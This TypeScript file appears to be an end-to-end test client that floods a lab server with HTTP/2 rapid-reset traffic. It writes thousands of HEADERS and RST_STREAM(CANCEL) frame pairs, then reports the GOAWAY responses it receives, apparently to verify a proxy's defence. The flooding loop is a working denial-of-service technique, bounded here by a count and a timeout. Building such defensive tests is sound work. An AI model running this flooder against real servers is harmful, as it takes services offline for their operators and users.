/**
 * The rapid-reset flooder of the HTTP/2 abuse e2e, run inside a lab pod (so the agent captures
 * it onto its outbound listener): one h2c connection (prior knowledge) to HOST:PORT, then up to
 * N pairs of HEADERS + RST_STREAM(CANCEL), written by hand in batches of 100 (test/unit's
 * raw-h2.ts), exactly what an attacker sends and what no well-behaved client library would.
 * Stops at N pairs, when the server closes the connection, or after 10 s (bounded).
 * Prints one JSON line: pairs written, every GOAWAY (code, last-stream-id), whether the
 * connection was closed, and how long until the first GOAWAY.
 *
 * usage: h2-flood-client.ts HOST PORT N AUTHORITY
 */
import http2 from 'node:http2';
import net from 'node:net';
import { FrameType, frame, getHeaders, rawH2 } from '../../unit/proxy/tunnel/raw-h2.js';

const [host, portStr, nStr, authority] = process.argv.slice(2);
const N = Number(nStr ?? 20_000);
const MAX_MS = 10_000;

const sock = net.connect(Number(portStr), host!);
await new Promise<void>((resolve, reject) => {
  sock.once('connect', resolve);
  sock.once('error', reject);
});
sock.on('error', () => {});
const raw = rawH2(sock);
const t0 = performance.now();
let firstGoawayMs: number | undefined;
const goawayWatch = setInterval(() => {
  if (firstGoawayMs === undefined && raw.goaway !== undefined) firstGoawayMs = performance.now() - t0;
}, 1);

const block = getHeaders(authority ?? `${host}:${portStr}`, '/flood');
const cancel = Buffer.alloc(4);
cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
let sent = 0;
let sentAtGoaway: number | undefined;
const deadline = Date.now() + MAX_MS;
for (let id = 1; sent < N && Date.now() < deadline && !raw.closed; ) {
  const batch: Buffer[] = [];
  for (let i = 0; i < 100 && sent < N; i++, sent++, id += 2) {
    batch.push(frame(FrameType.HEADERS, 0x4 /* END_HEADERS */, id, block), frame(FrameType.RST_STREAM, 0, id, cancel));
  }
  try {
    await raw.write(Buffer.concat(batch));
  } catch {
    break;
  }
  if (sentAtGoaway === undefined && raw.goaway !== undefined) sentAtGoaway = sent;
  // Yield between batches so replies are read as they come (a network interleaves them too).
  await new Promise((r) => setImmediate(r));
}
// Wait (bounded) for the server to close, reading every GOAWAY it sends until then.
const closeBy = Date.now() + 5_000;
while (!raw.closed && Date.now() < closeBy) await new Promise((r) => setTimeout(r, 10));
clearInterval(goawayWatch);
if (firstGoawayMs === undefined && raw.goaway !== undefined) firstGoawayMs = performance.now() - t0;
sock.destroy();
process.stdout.write(
  `${JSON.stringify({
    sent,
    sentAtGoaway: sentAtGoaway ?? null,
    goaways: raw.goaways,
    goawayLastStreamIds: raw.goawayLastStreamIds,
    closed: raw.closed,
    firstGoawayMs: firstGoawayMs === undefined ? null : Math.round(firstGoawayMs),
  })}\n`,
);
